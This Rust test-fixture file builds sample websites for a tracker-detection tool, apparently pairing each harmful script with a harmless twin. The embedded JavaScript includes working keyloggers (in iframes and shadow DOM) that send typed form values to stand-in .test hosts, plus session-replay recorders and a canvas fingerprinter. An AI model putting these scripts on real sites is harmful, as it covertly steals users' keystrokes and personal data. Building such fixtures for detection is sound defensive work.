//! More of the behaviour fixture web ([`super::behave`]): plans in, sites out.
//! Key loggers whose fields sit inside a cross-origin iframe, a same-origin
//! iframe and an open shadow root; session recorders that listen through
//! event handler properties and inline attributes instead of
//! `addEventListener`; a canvas fingerprint read back off-screen
//! (`OffscreenCanvas`, `convertToBlob`, `toBlob`). Each has an honest twin
//! using the same places and APIs harmlessly (an embedded form that sends
//! only on submit, a web-component form with a live character count, keyboard
//! shortcuts, a sparkline offered as a download).

use super::behave::{Plan, Policy, MD5_JS};
use crate::model::BehaviourKind;

/// The keystroke logger of an embedded form provider, inside its
/// cross-origin iframe: each key as pressed, base64 of each field's keys.
const KEYLOG_IFRAME: &str = r#"/* leadbox embed: keystroke capture for lead recovery. */
(function () {
  var typed = {}, timers = {};
  document.addEventListener('keydown', function (e) {
    var t = e.target, k = e.key;
    if (!t || !t.name || typeof k !== 'string') return;
    if (k.length === 1) typed[t.name] = (typed[t.name] || '') + k;
    else if (k === 'Backspace') typed[t.name] = (typed[t.name] || '').slice(0, -1);
    var name = t.name;
    clearTimeout(timers[name]);
    timers[name] = setTimeout(function () {
      navigator.sendBeacon('//api.leadbox.test/partial', JSON.stringify({ f: name, v: btoa(unescape(encodeURIComponent(typed[name]))) }));
    }, 150);
  }, true);
})();
"#;

/// The same kind of embedded form, honest: checks the address as it is
/// typed, sends only on submit.
const IFRAME_FORM_HONEST: &str = r#"/* quietmail embed: the sign-up form; nothing leaves before submit. */
(function () {
  var f = document.getElementById('f'), hint = document.getElementById('hint');
  f.addEventListener('input', function () {
    var ok = /^[^@\s]+@[^@\s]+\.[^@\s]+$/.test(f.email.value);
    hint.textContent = ok ? '' : 'Please enter a valid address';
  });
  f.addEventListener('submit', function (e) {
    e.preventDefault();
    fetch('//forms.quietmail.test/subscribe', { method: 'POST', mode: 'no-cors', body: new FormData(f) });
  });
})();
"#;

/// A form-analytics script in a same-origin iframe: MD5 of each changed field.
const KEYLOG_CHANGE: &str = r#"/* inputlog: field completion analytics. */
(function () {
  document.addEventListener('change', function (e) {
    var t = e.target;
    if (!t || typeof t.value !== 'string' || !t.value) return;
    fetch('//t.inputlog.test/c', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify({ f: t.name, h: md5(t.value) }) });
  }, true);
})();
"#;

/// The site's own newsletter form as a web component (open shadow root).
const SIGNUP_BOX: &str = r#"/* <signup-box>: the newsletter form as a web component. */
customElements.define('signup-box', class extends HTMLElement {
  connectedCallback() {
    if (this.shadowRoot) return;
    var root = this.attachShadow({ mode: 'open' });
    root.innerHTML = '<style>label { display: block; margin: 4px 0; }</style><form>' +
      '<label>Name <input name="name" autocomplete="name"></label>' +
      '<label>Email <input name="email" type="email"></label>' +
      '<label>Note <textarea name="note"></textarea></label>' +
      '<button type="submit">Join</button> <small id="count"></small></form>';
    var form = root.querySelector('form'), count = root.getElementById('count');
    form.addEventListener('input', function () { count.textContent = form.note.value.length + ' / 500'; });
    form.addEventListener('submit', function (e) {
      e.preventDefault();
      fetch('/api/subscribe', { method: 'POST', body: new FormData(form) });
    });
  }
});
"#;

/// Form analytics that reach into web components: the typed value, from
/// the event's composed path, in an image URL.
const KEYLOG_SHADOW: &str = r#"/* shadowsense: form analytics that reach into web components. */
(function () {
  var timers = {};
  document.addEventListener('input', function (e) {
    var t = e.composedPath ? e.composedPath()[0] : e.target;
    if (!t || typeof t.value !== 'string' || !t.name) return;
    clearTimeout(timers[t.name]);
    timers[t.name] = setTimeout(function () {
      new Image().src = '//cdn.shadowsense.test/k.gif?f=' + encodeURIComponent(t.name) + '&v=' + encodeURIComponent(t.value);
    }, 150);
  }, true);
})();
"#;

/// Session replay through event handler properties and a handler attribute.
const RECORDER_PROPS: &str = r#"/* clickreel: session replay. */
(function () {
  var q = [], t0 = Date.now();
  var log = function (t) {
    return function (e) { if (q.length < 500) q.push({ t: t, at: Date.now() - t0, x: e.clientX, y: e.clientY, k: e.key ? '*' : undefined }); };
  };
  new MutationObserver(function (ms) { q.push({ t: 'mutation', n: ms.length }); })
    .observe(document.documentElement, { childList: true, subtree: true, attributes: true });
  document.onkeydown = log('keydown');
  document.oninput = log('input');
  window.onmousemove = log('mousemove');
  window.__clickreel = log('click');
  document.body.setAttribute('onclick', 'window.__clickreel && window.__clickreel(event)');
  setInterval(function () {
    if (!q.length) return;
    var b = q; q = [];
    navigator.sendBeacon('//ingest.clickreel.test/r', JSON.stringify(b));
  }, 400);
})();
"#;

/// A page recording itself: inline handler attributes on the body, an
/// inline script observing the document and shipping the tape.
const RECORDER_INLINE_BODY: &str = r#"<main><h1>Contact us</h1><form id="contact" action="/send" method="post">
<label>Name <input name="name" autocomplete="name"></label>
<label>Email <input name="email" type="email"></label>
<button type="submit">Send</button></form></main>
<script>
var tape = [];
new MutationObserver(function (ms) { tape.push(['dom', ms.length]); })
  .observe(document, { childList: true, subtree: true, characterData: true });
setInterval(function () {
  if (!tape.length) return;
  fetch('//rec.tapedeck.test/t', { method: 'POST', mode: 'no-cors', body: JSON.stringify(tape.splice(0)) });
}, 400);
</script>"#;

const RECORDER_INLINE_ATTRS: &str = r#"onkeydown="tape.push(['k', Date.now()])" oninput="tape.push(['i', Date.now()])" onmousemove="tape.push(['m', event.clientX, event.clientY])""#;

/// Keyboard shortcuts through the same properties and attributes, a list
/// observed for its own changes, one page-view beacon: not a recorder.
const SHORTCUTS: &str = r#"/* Keyboard shortcuts: "/" focuses the search box, Escape clears it. */
(function () {
  var s = document.getElementById('q'), list = document.getElementById('results');
  document.onkeydown = function (e) { if (e.key === '/' && document.activeElement !== s) { e.preventDefault(); s.focus(); } };
  document.body.setAttribute('onkeyup', "if (event.key === 'Escape') document.getElementById('q').value = ''");
  new MutationObserver(function () { list.hidden = !list.children.length; }).observe(list, { childList: true });
  navigator.sendBeacon('/pv', location.pathname);
})();
"#;

/// A canvas fingerprint drawn and read back off-screen, with a `toBlob`
/// of an on-page-less canvas as well.
const CANVAS_OFFSCREEN_FP: &str = r#"/* pixelprint: canvas signature, off-screen. */
(function () {
  var txt = 'Cwm fjordbank glyphs vext quiz, \ud83d\ude03';
  var post = function (k, v) { navigator.sendBeacon('//cdn.pixelprint.test/c', k + '=' + v); };
  if (typeof OffscreenCanvas !== 'undefined') {
    var oc = new OffscreenCanvas(220, 30), x = oc.getContext('2d');
    x.textBaseline = 'top'; x.font = '14px Arial';
    x.fillStyle = '#f60'; x.fillRect(100, 1, 62, 20);
    x.fillStyle = '#069'; x.fillText(txt, 2, 15);
    x.fillStyle = 'rgba(102, 204, 0, 0.7)'; x.fillText(txt, 4, 17);
    var px = x.getImageData(0, 0, 220, 30).data, h = 0;
    for (var i = 0; i < px.length; i += 4) h = ((h << 5) - h + px[i]) | 0;
    post('o', h);
    oc.convertToBlob().then(function (b) { post('b', b.size); });
  }
  var c = document.createElement('canvas');
  c.width = 200; c.height = 40;
  var y = c.getContext('2d');
  y.font = '16px serif';
  y.fillStyle = '#123456'; y.fillText('Sphinx of black quartz, judge my vow', 2, 20);
  y.strokeStyle = '#ff00aa'; y.strokeText('0123456789', 4, 36);
  c.toBlob(function (b) { post('t', b ? b.size : 0); });
})();
"#;

/// A sparkline rendered off-screen and offered as a PNG download, and a
/// photo preview shrunk as a JPEG: the same read-backs, harmless.
const SPARKLINE: &str = r#"/* Sparkline rendered off-screen for the download button; the upload preview as a JPEG. */
(function () {
  var vals = [3, 7, 4, 9, 12, 8, 14];
  if (typeof OffscreenCanvas !== 'undefined') {
    var oc = new OffscreenCanvas(280, 80), x = oc.getContext('2d');
    x.save(); x.fillStyle = '#ffffff'; x.fillRect(0, 0, 280, 80); x.restore();
    x.strokeStyle = '#1a73e8'; x.beginPath();
    vals.forEach(function (v, i) { x.lineTo(10 + i * 40, 70 - v * 4); });
    x.stroke();
    x.font = '12px sans-serif';
    x.fillStyle = '#333333'; x.fillText('Weekly visitors', 10, 14);
    x.fillStyle = '#1a73e8'; x.fillText('peak 14', 220, 14);
    oc.convertToBlob({ type: 'image/png' }).then(function (b) { document.getElementById('dl').href = URL.createObjectURL(b); });
  }
  var c = document.getElementById('photo'), y = c.getContext('2d');
  y.fillStyle = '#dddddd'; y.fillRect(0, 0, c.width, c.height);
  y.fillStyle = '#222222'; y.fillText('Preview: your uploaded photo appears here', 8, 20);
  y.fillStyle = '#aa0000'; y.fillText('max 5 MB', 8, 40);
  c.toBlob(function (b) { document.getElementById('size').textContent = b ? b.size + ' bytes' : ''; }, 'image/jpeg', 0.8);
})();
"#;

fn form_page(title: &str, scripts: &str) -> String {
    format!(
        "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>{title}</title></head><body>\
<form id=\"f\" action=\"/subscribe\" method=\"post\">\
<label>Name <input name=\"name\" autocomplete=\"name\"></label>\
<label>Email <input name=\"email\" type=\"email\"></label> <small id=\"hint\"></small>\
<button type=\"submit\">Subscribe</button></form>{scripts}</body></html>"
    )
}

/// The plans of this part of the behaviour web.
pub(super) fn plans() -> Vec<Plan> {
    use BehaviourKind::*;
    use Policy::*;
    let file = |host: &'static str, path: &'static str, body: String| (host, path, body);
    vec![
        Plan {
            slug: "keylog-iframe",
            twin: "iframe-form-honest",
            body: r#"<main><h1>Newsletter</h1><iframe src="//forms.leadbox.test/embed/signup" width="480" height="220" title="Sign up"></iframe></main>"#,
            files: vec![
                file(
                    "forms.leadbox.test",
                    "/embed/signup",
                    form_page("Sign up", r#"<script src="/embed/lb.js"></script>"#),
                ),
                file("forms.leadbox.test", "/embed/lb.js", KEYLOG_IFRAME.into()),
            ],
            behaviours: vec![(KeyLogging, "api.leadbox.test")],
            findings: vec!["keystrokes_leaked", "pii_in_tracker_request"],
            ..Plan::new(Plain)
        },
        Plan {
            slug: "iframe-form-honest",
            twin: "keylog-iframe",
            body: r#"<main><h1>Newsletter</h1><iframe src="//forms.quietmail.test/embed/signup" width="480" height="220" title="Sign up"></iframe></main>"#,
            files: vec![
                file(
                    "forms.quietmail.test",
                    "/embed/signup",
                    form_page("Sign up", r#"<script src="/embed/qm.js"></script>"#),
                ),
                file(
                    "forms.quietmail.test",
                    "/embed/qm.js",
                    IFRAME_FORM_HONEST.into(),
                ),
            ],
            ..Plan::new(Plain)
        },
        Plan {
            slug: "keylog-frame-same",
            twin: "iframe-form-honest",
            body: r#"<main><h1>Contact</h1><iframe src="/embed/contact" width="480" height="220" title="Contact"></iframe></main>"#,
            files: vec![
                file(
                    "",
                    "/embed/contact",
                    form_page(
                        "Contact",
                        r#"<script src="//t.inputlog.test/il.js"></script>"#,
                    ),
                ),
                file(
                    "t.inputlog.test",
                    "/il.js",
                    format!("{MD5_JS}{KEYLOG_CHANGE}"),
                ),
            ],
            behaviours: vec![(KeyLogging, "t.inputlog.test")],
            findings: vec!["keystrokes_leaked", "pii_in_tracker_request"],
            ..Plan::new(Plain)
        },
        Plan {
            slug: "keylog-shadow",
            twin: "shadow-form-honest",
            scripts: vec![
                ("", "/js/box.js", SIGNUP_BOX.into()),
                ("cdn.shadowsense.test", "/ss.js", KEYLOG_SHADOW.into()),
            ],
            body: "<main><h1>Join us</h1><signup-box></signup-box></main>",
            behaviours: vec![(KeyLogging, "cdn.shadowsense.test")],
            findings: vec!["keystrokes_leaked", "pii_in_tracker_request"],
            ..Plan::new(Plain)
        },
        Plan {
            slug: "shadow-form-honest",
            twin: "keylog-shadow",
            scripts: vec![("", "/js/box.js", SIGNUP_BOX.into())],
            body: "<main><h1>Join us</h1><signup-box></signup-box></main>",
            ..Plan::new(Plain)
        },
        Plan {
            slug: "recorder-props",
            twin: "shortcuts-honest",
            scripts: vec![("cdn.clickreel.test", "/cr.js", RECORDER_PROPS.into())],
            body: r#"<main><h1>Book a table</h1><form><label>Name <input name="name"></label></form></main>"#,
            behaviours: vec![(SessionRecording, "http://cdn.clickreel.test/cr.js")],
            findings: vec!["session_replay_undisclosed"],
            ..Plan::new(Plain)
        },
        Plan {
            slug: "recorder-inline",
            twin: "shortcuts-honest",
            body: RECORDER_INLINE_BODY,
            attrs: RECORDER_INLINE_ATTRS,
            behaviours: vec![(SessionRecording, "http://www.recorder-inline.test/")],
            findings: vec!["session_replay_undisclosed"],
            ..Plan::new(Plain)
        },
        Plan {
            slug: "shortcuts-honest",
            twin: "recorder-props",
            scripts: vec![("", "/js/keys.js", SHORTCUTS.into())],
            body: r#"<main><h1>Search</h1><input id="q" name="q" type="search" placeholder="Press / to search"><ul id="results" hidden></ul></main>"#,
            attrs: r#"onkeydown="if (event.key === 'Escape') this.blur()""#,
            ..Plan::new(Plain)
        },
        Plan {
            slug: "canvas-offscreen",
            twin: "offscreen-chart",
            scripts: vec![("cdn.pixelprint.test", "/pp.js", CANVAS_OFFSCREEN_FP.into())],
            body: r#"<main><h1>Prints</h1><p>Framed art prints.</p></main>"#,
            behaviours: vec![(CanvasFingerprint, "http://cdn.pixelprint.test/pp.js")],
            findings: vec!["fingerprinting_undisclosed"],
            ..Plan::new(Plain)
        },
        Plan {
            slug: "offscreen-chart",
            twin: "canvas-offscreen",
            scripts: vec![("", "/js/spark.js", SPARKLINE.into())],
            body: r#"<main><h1>Visitors</h1><a id="dl" download="visitors.png">Download chart</a>
<canvas id="photo" width="320" height="120"></canvas><span id="size"></span></main>"#,
            ..Plan::new(Plain)
        },
    ]
}

/// Endpoints the sites above send to.
pub(super) const SINKS: [(&str, &str); 6] = [
    ("cdn.pixelprint.test", "/c"),
    ("api.leadbox.test", "/partial"),
    ("forms.quietmail.test", "/subscribe"),
    ("t.inputlog.test", "/c"),
    ("ingest.clickreel.test", "/r"),
    ("rec.tapedeck.test", "/t"),
];

/// Endpoints above answered with a pixel.
pub(super) const PIXELS: [(&str, &str); 1] = [("cdn.shadowsense.test", "/k.gif")];

/// Endpoints above answered with 204 on every site's own host.
pub(super) const OWN: [&str; 2] = ["/pv", "/api/subscribe"];
